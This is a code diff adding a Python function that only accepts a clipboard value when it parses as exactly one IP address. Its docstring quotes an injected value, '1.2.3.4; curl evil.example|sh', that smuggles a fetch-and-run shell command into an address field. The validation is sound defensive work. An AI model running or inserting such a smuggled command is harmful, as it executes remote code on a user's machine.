@@ -8,7 +8,26 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import ipaddress
 import os
+
+from kalipso.text import sanitize
+
+
+def copyable_ip(value: str | None) -> tuple[str | None, str]:
+    """(ip, "") when ``value``, stripped of surrounding whitespace, is exactly one IP address;
+    else (None, why nothing is copied). A timeline destination comes from traffic and may read
+    '1.2.3.4; curl evil.example|sh': only a value that parses as an address may be copied."""
+    if value is None or not value.strip():
+        return None, "no IP address here: nothing copied"
+    text = value.strip()
+    if "%" not in text:  # a scope id ("fe80::1%eth0") may hold any text: never copied
+        try:
+            return str(ipaddress.ip_address(text)), ""
+        except ValueError:
+            pass
+    shown = sanitize(text, 40)
+    return None, f"'{shown}' is not an IP address: nothing copied"
 
 
 def osc52(text: str) -> str:
